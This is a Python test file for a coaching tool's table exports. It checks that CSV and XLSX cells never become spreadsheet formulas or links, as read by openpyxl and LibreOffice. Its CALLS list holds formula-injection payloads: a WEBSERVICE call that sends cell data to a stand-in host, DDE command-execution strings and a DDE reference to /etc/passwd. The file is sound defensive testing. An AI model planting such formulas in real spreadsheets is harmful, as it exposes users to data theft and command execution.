"""No cell of a table is a formula, of a coach or of acts: read by openpyxl, and by LibreOffice where there is one."""

from __future__ import annotations

import csv
import io
import random
import re
import shutil
import subprocess

import msgspec
import openpyxl
import pytest
from click.testing import CliRunner

from trustkit.cli import main
from trustkit.cli import tables as commands
from trustkit.coach import cohort_of, cohort_xlsx, collect, mark_sheet, moved_csv, points
from trustkit.coach.cells import as_csv, as_xlsx, plain_cell, safe_cell
from trustkit.coach.rehearsal import checked_in
from trustkit.coach.shapes import as_bytes

CALLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://tracker.invalid","open me")',
    '=WEBSERVICE("http://tracker.invalid/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"/etc/passwd";"data")',
    "＝1+1",
    "＠SUM(1)",
)
BEFORE = ("", " ", "\t", "\n", "\r\n", "'", '"', "\u00a0", "tea;", "tea\t", "tea\n", "tea; ")
HOSTILE = [before + call for before in BEFORE for call in CALLS]
LIVE = re.compile(r'(?:table:formula|xlink:href)="[^"]*"')
RAW = '"ann","=3+4"\r\n=2+2,plain\r\n'  # what a spreadsheet does take for formulas


@pytest.fixture(name="tables", scope="module")
def tables_fixture(tmp_path_factory, room, keys_for, stream_of, act):
    """Every table of a room of hostile names, answers, notes and businesses, as files; the raw control among them.

    The table of acts and the one of labelled texts stand beside them.
    """
    folder = tmp_path_factory.mktemp("tables")
    (folder / "in").mkdir()
    keys, draw = keys_for(HOSTILE, "lesson_01"), random.Random(5)
    for number, (seat, text) in enumerate(zip(keys.seats, HOSTILE, strict=True)):
        words = dict.fromkeys(("lesson_01.my_reason", "lesson_01.exit_sentence"), text)
        one = msgspec.structs.replace(
            room.hand_in(keys, seat, draw), words=words, business=text[:40], version=text[:20]
        )
        one = msgspec.structs.replace(one, **checked_in(keys, draw))
        (folder / "in" / f"{number}.json").write_bytes(as_bytes(one))
    (folder / "in" / "=1+1.txt").write_bytes(b"")
    collected = collect(folder / "in", keys)
    cohort = cohort_of(collected)
    mark_sheet(collected, folder / "in")
    made = {
        "room.csv": cohort.table_csv(),
        "listed.csv": cohort.listed_csv(),
        "moved.csv": moved_csv(points(cohort)),
        "marks.csv": (folder / "in" / "marks-coach.csv").read_bytes(),
        "many_lines.csv": as_csv([[text] for text in HOSTILE]),
        "room.xlsx": cohort_xlsx(cohort),
        "many_lines.xlsx": as_xlsx({"one": [[text] for text in HOSTILE]}),
        "control.csv": RAW.encode(),
    }
    for name, content in made.items():
        (folder / name).write_bytes(content)
    acts = [
        act("2026-06-01T10:00", text, person=text, people=[text], thread=text, links=[text], source=text)
        for text in HOSTILE
    ]
    commands._write_csv(stream_of(*acts), folder / "acts.csv")
    source = tmp_path_factory.mktemp("source") / "posts.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["=1+1", "text"], *([text, text] for text in HOSTILE)])
    words = ["label", str(source), "--column", "text", "--to", str(folder / "labelled.csv")]
    assert CliRunner().invoke(main, words).exit_code == 0
    return folder


WRITTEN = ("room.csv", "listed.csv", "moved.csv", "marks.csv", "many_lines.csv", "acts.csv", "labelled.csv")


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tables):
    for name, texts in (("room.xlsx", 3), ("many_lines.xlsx", 1)):
        book = openpyxl.load_workbook(tables / name)
        assert len(book.sheetnames) == texts
        cells = [cell for page in book for row in page.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
        assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    book = openpyxl.load_workbook(tables / "many_lines.xlsx")
    assert [plain_cell(row[0]) for row in book["one"].iter_rows(values_only=True)] == [
        text.replace("\r", "\n") for text in HOSTILE
    ]


def test_the_control_is_a_formula_to_openpyxl(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    book.save(tmp_path / "raw.xlsx")
    assert openpyxl.load_workbook(tmp_path / "raw.xlsx").active["A1"].data_type == "f"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_whatever_a_spreadsheet_takes_for_the_border_of_a_cell_none_begins_a_formula(tables, separator):
    """As a program reads it that knows no quotation marks but at the beginning of a cell, which is the worst one."""
    for name in WRITTEN:
        text = (tables / name).read_bytes().decode("utf-8-sig")
        cells = [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row
        ]
        if separator != ",":
            cells += re.split(f"[{separator}\r\n]", text)
        odd = [cell for cell in cells if re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell) and not _number(cell)]
        assert odd == [], name


def _number(cell: str) -> bool:
    return re.fullmatch(r'"*-?\d+(\.\d+)?(e-?\d+)?"*', cell) is not None


def test_a_cell_comes_back_whole():
    assert [plain_cell(str(safe_cell(text))) for text in HOSTILE] == HOSTILE
    assert [text for text in HOSTILE if safe_cell(text) == text] == []
    for kept in ("tea; coffee", "a-b", "it's; 'fine'", "x = y", "mail@example.org", "one\ntwo"):
        assert safe_cell(kept) == kept == plain_cell(kept)


def test_texts_of_acts_and_labelled_texts_come_back_whole(tables):
    # A text to be labelled may come out of such a table, so an apostrophe that guards it is taken for that.
    for name, texts in (("acts.csv", HOSTILE), ("labelled.csv", [plain_cell(text) for text in HOSTILE])):
        rows = csv.DictReader(io.StringIO((tables / name).read_bytes().decode("utf-8"), newline=""))
        assert [plain_cell(row["text"]) for row in rows] == texts, name


def test_libreoffice_finds_no_formula_in_any_table(tables, tmp_path):
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not on this machine: the tables were read by openpyxl alone")
    found: dict[str, list[str]] = {}
    for separator in ("44", "59"):
        out = tmp_path / separator
        subprocess.run(
            [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
             f"--infilter=CSV:{separator},34,76,1", "--convert-to", "fods", "--outdir", str(out),
             *map(str, sorted(tables.glob("*.csv")))],
            check=True, capture_output=True, timeout=400,
        )  # fmt: skip
        for file in out.iterdir():
            found[f"{separator} {file.stem}"] = re.findall(
                r'(?:table:formula|xlink:href)="[^"]*"', file.read_text("utf-8")
            )
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "fods", "--outdir", str(tmp_path / "xlsx"), *map(str, sorted(tables.glob("*.xlsx")))],
        check=True, capture_output=True, timeout=400,
    )  # fmt: skip
    for file in (tmp_path / "xlsx").iterdir():
        found[file.stem] = LIVE.findall(file.read_text("utf-8"))
    assert len(found) == 2 * 8 + 2
    controls = found.pop("44 control"), found.pop("59 control")
    assert all(controls), "LibreOffice does take these for formulas"
    assert {name: cells for name, cells in found.items() if cells} == {}
